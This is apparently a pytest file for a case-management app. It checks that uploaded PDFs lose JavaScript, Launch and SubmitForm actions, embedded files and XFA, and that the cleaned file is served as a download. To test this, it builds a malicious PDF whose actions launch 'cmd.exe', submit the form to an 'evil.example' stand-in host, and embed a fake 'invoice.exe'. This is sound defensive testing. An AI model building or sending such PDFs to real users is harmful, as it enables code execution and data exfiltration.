"""Uploaded PDFs lose what they can do (scripts, launch and submit actions, embedded files,
XFA) and keep what they show; the desk serves them as downloads, never inline."""

from __future__ import annotations

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from domain.cases.attachments import check_upload, store_attachment
from domain.cases.pdf_sanitise import sanitise_pdf
from domain.db import db
from tests.factories import submit
from tests.web.helpers import login

SCRIPT = "app.alert('pwned-by-upload')"
PAYLOAD = b"MZ-dropper-payload-bytes"


def _action(pdf: pikepdf.Pdf, kind: str, **extra) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name("/" + kind), **extra))


def crafted_pdf() -> bytes:
    """One page carrying each thing the sanitiser removes, and some text that must stay."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    page = pdf.pages[0]
    page.obj.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Bukti kuitansi) Tj ET")
    script = pdf.make_stream(SCRIPT.encode())
    pdf.Root.OpenAction = _action(pdf, "JavaScript", JS=script)
    pdf.Root.AA = Dictionary(WC=_action(pdf, "JavaScript", JS=String(SCRIPT)))
    embedded = pdf.make_stream(PAYLOAD, Type=Name.EmbeddedFile)
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("invoice.exe"),
                                        EF=Dictionary(F=embedded)))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), _action(pdf, "JavaScript",
                                                                JS=String(SCRIPT))])),
        EmbeddedFiles=Dictionary(Names=Array([String("invoice.exe"), spec])))
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    page.obj.AA = Dictionary(O=_action(pdf, "JavaScript", JS=String(SCRIPT)))
    rect = Array([0, 0, 10, 10])
    launch = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect,
                        A=_action(pdf, "Launch", F=String("cmd.exe")))
    submit_ = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect,
                         A=_action(pdf, "SubmitForm", F=String("https://evil.example/x")))
    chained = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect,
                         A=_action(pdf, "GoTo", D=Array([]),
                                   Next=_action(pdf, "JavaScript", JS=String(SCRIPT))))
    attached = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=rect, FS=spec)
    page.obj.Annots = Array([pdf.make_indirect(a) for a in (launch, submit_, chained, attached)])
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)
    return out.getvalue()


def _everything(pdf: pikepdf.Pdf) -> list[pikepdf.Object]:
    return [o.stream_dict if isinstance(o, pikepdf.Stream) else o for o in pdf.objects
            if isinstance(o, Dictionary | pikepdf.Stream)]


def test_a_crafted_pdf_loses_scripts_actions_files_and_xfa_and_keeps_its_page():
    raw = crafted_pdf()
    assert SCRIPT.encode() in raw and PAYLOAD in raw and b"/Launch" in raw  # the attack is real
    clean = check_upload("bukti.pdf", io.BytesIO(raw))
    assert clean.content_type == "application/pdf" and clean.label == "bukti.pdf"
    for marker in (SCRIPT.encode(), PAYLOAD, b"/JavaScript", b"/Launch", b"/SubmitForm",
                   b"/EmbeddedFile", b"/XFA", b"/OpenAction", b"/FileAttachment", b"cmd.exe"):
        assert marker not in clean.data, marker
    with pikepdf.open(io.BytesIO(clean.data)) as pdf:
        assert len(pdf.pages) == 1
        assert b"Bukti kuitansi" in pdf.pages[0].Contents.read_bytes()
        for obj in _everything(pdf):
            assert not {"/JS", "/AA", "/EF"} & set(obj.keys())
            assert str(obj.get("/S", "")) not in ("/JavaScript", "/Launch", "/SubmitForm")
        assert len(pdf.pages[0].Annots) == 3  # the links stay, doing nothing dangerous


def test_a_clean_pdf_keeps_its_compressed_streams_compressed():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].obj.Contents = pdf.make_stream(b"0 0 m " * 200_000)  # 1.2 MB, flates to KB
    out = io.BytesIO()
    pdf.save(out, compress_streams=True)
    cleaned = sanitise_pdf(out.getvalue())
    assert len(cleaned) < 3 * len(out.getvalue()) < 200_000  # never inflated


def test_the_desk_serves_the_cleaned_pdf_as_a_download(client, world):
    receipt = submit()
    row = store_attachment(receipt.case, "bukti.pdf", io.BytesIO(crafted_pdf()), "")
    db.session.commit()
    login(client, "verifier")
    download = client.get(f"/desk/cases/{receipt.tracking_id}/attachments/{row.id}")
    assert download.status_code == 200 and download.mimetype == "application/pdf"
    assert download.headers["Content-Disposition"] == "attachment; filename=bukti.pdf"
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    body = download.get_data()
    download.close()
    assert SCRIPT.encode() not in body and PAYLOAD not in body and b"/Launch" not in body
